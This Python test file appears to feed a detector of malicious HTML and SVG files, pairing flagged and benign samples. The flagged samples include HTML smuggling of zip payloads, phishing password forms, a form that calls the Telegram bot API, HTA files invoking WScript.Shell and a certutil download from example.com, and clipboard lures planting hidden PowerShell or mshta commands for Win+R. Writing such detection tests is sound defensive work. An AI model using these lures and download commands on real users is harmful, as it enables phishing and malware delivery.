# ruff: noqa: E501 -- a line of a script is one line here, too
import base64

from tests.engine.indicator_cases.case import Case
from tests.engine.samples import zipped
from tests.engine.script_texts import pair

ZIP = base64.b64encode(zipped({"readme.txt": b"hello " * 400})).decode()
SAVE = "var u = URL.createObject¦URL(new Blob([b])); var a = document.createElement('a'); a.href = u; a.download = 'x.zip';"
BIG = "AAAA" * 700
PAGE = "<html><head><title>x</title></head><body><p>hello</p></body></html>"
HTA = "<html><hta:appli¦cation id=a %s><script language='VBScript'>%s</script></html>"
SHELL = 'Set s = CreateObject("WScript.Sh¦ell")\ns.Run "notepad"\n'
COPY = "<html><p>%s</p><script>navigator.clip¦board.writeText('%s')</script></html>"


def page(code: str, positive: str, negative: str = PAGE, name: str = "a.html") -> tuple[str, Case]:
    return code, pair(name, positive, negative)


CASES = dict(
    [
        page(
            "html.smuggled_file",
            f"<html><script>var b = atob('{ZIP}'); {SAVE}</script></html>",
            f"<html><script>var b = 'text'; {SAVE}</script></html>",
        ),
        page(
            "html.smuggling",
            f"<html><script>var b = atob('{BIG}'); {SAVE}</script></html>",
            f"<html><script>var b = 'text'; {SAVE}</script></html>",
        ),
        page(
            "html.saves_by_itself",
            f"<html><script>var b = atob('{BIG}'); {SAVE.replace('a.download', 'a.x')} a.click();</script></html>",
            f"<html><script>var b = 'text'; {SAVE} a.click();</script></html>",
        ),
        page(
            "html.data_download",
            f"<html><a down¦load='x.zip' href='data:application/zip;base64,{ZIP}'>x</a></html>",
            "<html><a download='x.csv' href='data:text/csv;base64,YSxiCg=='>x</a></html>",
        ),
        page(
            "html.hidden_iframe",
            "<html><iframe src='https://example.com/' width=0 height=0></iframe></html>",
            "<html><iframe src='https://example.com/' width=400></iframe></html>",
        ),
        page(
            "html.odd_refresh",
            "<html><meta http-equiv='ref¦resh' content='0;url=https://example.com/a.hta'></html>",
            "<html><meta http-equiv='refresh' content='0;url=https://example.com/a.html'></html>",
        ),
        page(
            "html.remote_share",
            "<html><img src='file://files.example.com/a/b.png'></html>",
            "<html><img src='file:///C:/a/b.png'></html>",
        ),
        page(
            "html.handler_protocol",
            "<html><script>location.href = 'ms-m¦sdt:/id PCWDiag¦nostic /skip force'</script></html>",
        ),
        page(
            "html.search_protocol",
            "<html><a href='search-m¦s:query=a&crumb=location:\\\\example.com\\a&displayname=b'>x</a></html>",
            "<html><a href='https://example.com/search?query=a&location=b'>x</a></html>",
        ),
        page("html.app_installer", "<html><a href='ms-appinst¦aller:?source=https://example.com/a.msix'>x</a></html>"),
        page(
            "html.help_container",
            "<html><script>x = 'mk:@MSI¦TStore:https://example.com/a.chm::/a.html'</script></html>",
        ),
        page(
            "html.password_field",
            "<html><form action='/in'><input type='password'></form></html>",
            "<html><form action='/in'><input type='text'></form></html>",
        ),
        page(
            "html.brand_password",
            "<html><title>Micro¦soft - Sign in</title><form action='https://example.com/a.php'><input type='pass¦word'></form></html>",
            "<html><title>Microsoft - Sign in</title><form action='https://login.microsoftonline.com/a'><input type='password'></form></html>",
        ),
        page(
            "html.password_to_chat",
            "<html><form><input type='pass¦word'></form><script>fetch('https://api.tele¦gram.org/bot1/sendMessage')</script></html>",
            "<html><form action='/in'><input type='password'></form></html>",
        ),
        page(
            "html.written_page",
            "<html><script>document.wr¦ite(unesc¦ape('%3Chtml%3E%3Cp%3Ehello%20everybody%3C/p%3E%3C/html%3E'))</script></html>",
            "<html><script>document.write('<p>hello everybody</p>')</script></html>",
        ),
        page(
            "html.hidden_target",
            "<html><script>window.loca¦tion.href = at¦ob('aHR0cHM6Ly9leGFtcGxlLmNvbS8=')</script></html>",
            "<html><script>window.location.href = '/next'</script></html>",
        ),
        page(
            "html.script_in_svg",
            "<svg xmlns='http://www.w3.org/2000/svg'><script>var a = 1;</script></svg>",
            "<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>",
            "a.svg",
        ),
        page(
            "html.svg_leads_away",
            "<svg xmlns='http://www.w3.org/2000/svg'><script>window.loca¦tion.href = 'https://example.com/'</script></svg>",
            "<svg xmlns='http://www.w3.org/2000/svg'><a href='https://example.com/'><path d='M0 0'/></a></svg>",
            "a.svg",
        ),
        page(
            "html.page_in_svg",
            "<svg xmlns='http://www.w3.org/2000/svg'><foreignObj¦ect><iframe src='https://example.com/'></iframe></foreignObject></svg>",
            "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><p>label</p></foreignObject></svg>",
            "a.svg",
        ),
        page("html.application", HTA % ("", "MsgBox 1"), PAGE),
        page("html.hidden_application", HTA % ("windowstate=mini¦mize", "MsgBox 1"), HTA % ("", "MsgBox 1")),
        page("html.application_runs", HTA % ("showintask¦bar=no", SHELL), HTA % ("", "MsgBox 1")),
        page(
            "html.application_downloads",
            HTA % ("", 's.Run "cert¦util -url¦cache -f https://example.com/a a"'),
            HTA % ("", "MsgBox 1"),
        ),
        page(
            "html.reaches_out",
            "<html><script>var s = new ActiveXObj¦ect('WScript.Sh¦ell');</script></html>",
            "<html><script>var s = new ActiveXObject('Microsoft.XMLDOM');</script></html>",
        ),
        page(
            "html.command_to_clipboard",
            COPY % ("copy", "power¦shell -w hid¦den -c x"),
            COPY % ("copy", "pip install anshin"),
        ),
        page(
            "html.paste_and_run",
            COPY % ("Press Win + R and paste", "ms¦hta https://example.com/a"),
            COPY % ("Press Win + R and paste", "calc"),
        ),
    ]
)
